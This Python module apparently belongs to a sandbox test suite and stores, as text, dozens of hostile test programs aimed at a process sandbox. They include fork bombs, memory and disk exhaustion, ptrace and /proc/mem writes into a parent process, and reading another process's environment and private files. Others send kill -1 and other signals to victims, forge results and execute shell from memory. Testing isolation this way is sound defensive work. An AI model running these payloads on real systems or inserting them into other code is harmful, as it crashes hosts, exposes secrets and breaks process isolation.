"""The bodies of the hostile programs that attacks.py tabulates: text, so that nothing here can run by mistake.

Each is what one `solve` does, below a common beginning that aims it. A failure is left to be raised, so that the row of
the program says what stopped it. What forks or writes much lingers a moment once it is ready, for who watches to see.
"""

from __future__ import annotations

import re
import textwrap

_PRELUDE = """\
import ctypes, errno, os, signal, socket, sys, time
TARGET = {target!r}
libc = ctypes.CDLL(None, use_errno=True)
libc.prctl(15, TARGET["marker"].encode())  # what descends from this is known by its name

def call(name, *arguments):
    got = getattr(libc, name)(*arguments)
    if got < 0:
        raise OSError(ctypes.get_errno(), os.strerror(ctypes.get_errno()))
    return got

def linger():
    time.sleep(0.3)  # for who watches to see it

def overwritten():
    # The warm process has what this fork has, at the same address: here, the file name that programs are compiled by.
    name = sys.modules["epsilon_lab.processes.zygote"]._FILE
    return id(name) + sys.getsizeof(name) - len(name) - 1, b"hijacked.py!"

def solve(*_):
"""

_BODIES = r"""
### python-loop
while True: pass

### c-loop
import itertools
sum(itertools.repeat(1))

### regex
import re
re.match('(a+)+$', 'a' * 60 + 'b')

### ignored-sigxcpu
signal.signal(signal.SIGXCPU, signal.SIG_IGN)
while True: pass

### sleep
time.sleep(1000)

### stop-itself
os.kill(os.getpid(), signal.SIGSTOP)
while True: time.sleep(1)

### bytearray-8gib
return len(bytearray(8 << 30))

### numpy-8gib
import numpy
return float(numpy.ones(1 << 30).sum())

### memory-of-many
done, ready = os.pipe()
for _ in range(6):
    if os.fork() == 0:
        kept = bytearray(b"x") * (100 << 20)
        os.write(ready, b"x")
        time.sleep(1000)
for _ in range(6):
    os.read(done, 1)
linger()

### fork-200
for _ in range(200):
    try:
        if os.fork() == 0:
            time.sleep(1000)
    except OSError:
        pass
linger()

### fork-bomb
me = os.getpid()
for _ in range(7):
    try:
        os.fork()
    except OSError:
        pass
if os.getpid() != me:
    time.sleep(1000)
linger()

### double-fork
if os.fork() == 0:
    os.setsid()
    if os.fork() == 0:
        time.sleep(1000)
    os._exit(0)
return 1

### fork-and-exit
if os.fork() == 0:
    while True:
        try:
            if os.fork():
                os._exit(0)
        except OSError:
            pass
return 1

### stdout-256mb
for _ in range(256): os.write(1, b'x' * (1 << 20))
return 1

### result-flood
while True: os.write(3, bytes(1 << 20))

### exit
os._exit(0)

### segfault
ctypes.string_at(0)

### abort
os.abort()

### stack-overflow
sys.setrecursionlimit(10**9)
one, other = [], []
for _ in range(10**6): one, other = [one], [other]
return one == other

### large-file
with open("large", "wb", buffering=0) as file:
    for _ in range(20):
        file.write(bytes(1 << 20))
linger()

### many-files
for number in range(100):
    with open(str(number), "wb") as file:
        file.write(bytes(1 << 20))
linger()

### write-outside
open(TARGET['outside'] + '/written', 'w').close()

### write-shared-memory
open(TARGET['shared_memory'], 'w').close()

### read-judges-file
return open(TARGET['readable']).read()

### read-private-file
return open(TARGET['private']).read()

### read-environment
return open(f'/proc/{TARGET["victim"]}/environ', 'rb').read()

### connect
socket.create_connection(('127.0.0.1', TARGET['tcp']), 5)

### bind
with socket.create_server(("127.0.0.1", TARGET["free"])) as server:
    server.settimeout(1)
    server.accept()[0].sendall(TARGET["marker"].encode())

### udp
socket.socket(type=socket.SOCK_DGRAM).sendto(b'x', ('127.0.0.1', TARGET['udp']))

### kill-zygote
os.kill(os.getppid(), signal.SIGKILL)

### kill-another
os.kill(TARGET['victim'], signal.SIGKILL)

### ptrace-zygote
zygote, (address, text) = os.getppid(), overwritten()
libc.ptrace.argtypes = [ctypes.c_long, ctypes.c_int, ctypes.c_void_p, ctypes.c_void_p]
call("ptrace", 16, zygote, None, None)
os.waitpid(zygote, 0x40000000)
base = address & ~7
old = bytearray(ctypes.string_at(base, 24))
old[address - base : address - base + len(text)] = text
for place in range(0, 24, 8):
    call("ptrace", 5, zygote, base + place, int.from_bytes(old[place : place + 8], "little"))
call("ptrace", 17, zygote, None, None)

### open-memory-of-zygote
address, text = overwritten()
with open(f"/proc/{os.getppid()}/mem", "r+b", buffering=0) as memory:
    memory.seek(address)
    memory.write(text)

### write-memory-of-zygote
address, text = overwritten()
def vector(place):
    return (ctypes.c_size_t * 2)(place, len(text))
here = ctypes.create_string_buffer(text)
call("process_vm_writev", os.getppid(), vector(ctypes.addressof(here)), 1, vector(address), 1, 0)

### execute
os.execv('/bin/sh', ['sh', '-c', 'echo executed $((6 * 7))'])

### new-user-namespace
call('unshare', 0x10000000)
linger()

### raise-limit
import resource
try:
    resource.setrlimit(resource.RLIMIT_AS, (resource.RLIM_INFINITY,) * 2)
except (ValueError, OSError):
    pass
return len(bytearray(b"x") * (600 << 20))

### patch-clocks
for name in ("time", "monotonic", "perf_counter", "process_time", "thread_time"):
    setattr(time, name, lambda: 0.0)
return sum(range(3 * 10**6))

### forge-result
from epsilon_lab.processes.data import encode
os.write(3, b"e" + encode(("scored", "1e9", "")))
os._exit(0)

### kill-all
if os.getuid() == TARGET["uid"] and os.readlink("/proc/self/ns/pid") == TARGET["pid_namespace"]:
    raise RuntimeError("not dared")
os.kill(-1, signal.SIGKILL)

### stop-zygote
os.kill(os.getppid(), signal.SIGSTOP)

### signals-otherwise
for way in (
    lambda victim: signal.pidfd_send_signal(os.pidfd_open(victim), signal.SIGKILL),
    lambda victim: call("tgkill", victim, victim, 9),
    lambda victim: call("sigqueue", victim, 9, None),
):
    try:
        way(TARGET["victim"])
    except (OSError, AttributeError):
        pass

### signal-by-pipe
import fcntl
reader, writer = os.pipe()
fcntl.fcntl(reader, fcntl.F_SETOWN, TARGET["victim"])
fcntl.fcntl(reader, 10, signal.SIGKILL)
fcntl.fcntl(reader, fcntl.F_SETFL, os.O_ASYNC | os.O_NONBLOCK)
os.write(writer, b"x")

### abstract-socket
socket.socket(socket.AF_UNIX).connect(chr(0) + TARGET['abstract'])

### unix-socket
socket.socket(socket.AF_UNIX).connect(TARGET['socket'])

### execute-memory
program = os.memfd_create("program", 0)
os.write(program, "#!/bin/sh{0}echo executed $((6 * 7)){0}".format(chr(10)).encode())
os.execv(f"/proc/self/fd/{program}", ["program"])

### spawn
command = ["sh", "-c", "echo executed $((6 * 7))"]
os.waitpid(os.posix_spawn("/bin/sh", command, {}), 0)

### clone3
arguments = (ctypes.c_uint64 * 11)()
arguments[4] = signal.SIGCHLD
call("syscall", 435, arguments, ctypes.sizeof(arguments))
linger()

### 32-bit-call
import mmap
if os.uname().machine == "x86_64":
    page = mmap.mmap(-1, 4096, prot=7)
    page.write(bytes.fromhex("b802000000cd80c3"))  # mov eax, 2; int 0x80; ret
    ctypes.CFUNCTYPE(ctypes.c_int)(ctypes.addressof(ctypes.c_char.from_buffer(page)))()
linger()

### memory-segment
call('shmget', 0, 1 << 16, 0o1600)

### fill-inodes
for number in range(17_000): os.close(os.open(str(number), os.O_CREAT | os.O_WRONLY))

### litter
for name in ("numbers.txt", "pipe"):
    try:
        os.mkfifo("new")
        os.replace("new", name)
    except OSError:
        pass
for depth in range(1000):
    os.mkdir("d")
    os.symlink(TARGET["kept"], "link to the canary")
    os.chdir("d")
os.chmod("..", 0)

### poison
import builtins, linecache, numpy
sys.modules["sys"] = sys.modules["os"] = None
linecache.cache.clear()
for module, name in ((builtins, "open"), (builtins, "int"), (numpy, "array"), (os, "_exit"), (os, "write")):
    setattr(module, name, None)
signal.pthread_sigmask(signal.SIG_BLOCK, signal.valid_signals())
sys.path[:] = [TARGET["outside"]]
return 1

### stray-descriptors
for descriptor in range(4, 1024):
    try:
        os.write(descriptor, bytes([255]) * 64)
    except OSError:
        pass
return 1

### take-descriptor
zygote = call("syscall", 434, os.getppid(), 0)
for descriptor in range(64):
    try:
        os.write(call("syscall", 438, zygote, descriptor, 0), bytes([255]) * 64)
    except OSError:
        pass
raise RuntimeError("it got so far")

### own-reaper
libc.prctl(36, 1)
for _ in range(3):
    if os.fork() == 0:
        os.setsid()
        os.fork()
        time.sleep(1000)
return 1

### threads
import threading
try:
    for _ in range(200):
        threading.Thread(target=time.sleep, args=(1000,)).start()
except RuntimeError:
    pass
linger()
os._exit(0)

### change-mode
os.chmod(TARGET['private'], 0o666)

### truncate
os.truncate(TARGET['private'], 0)

### interrupt-zygote
os.kill(os.getppid(), signal.SIGINT)
linger()

### outlive-zygote
libc.prctl(1, 0)
os.kill(os.getppid(), signal.SIGKILL)
linger()
"""

BODIES: dict[str, str] = {
    name: body.strip("\n") for name, body in re.findall(r"### (\S+)\n(.*?)(?=\n### |\Z)", _BODIES, re.DOTALL)
}
"""Name -> what its `solve` does."""


def program(name: str, target: object) -> str:
    """Make a program.

    Args:
        name: One of `BODIES`.
        target: What it is told of its surroundings; its `repr` is an expression.
    """
    return _PRELUDE.format(target=target) + textwrap.indent(BODIES[name], "    ") + "\n"
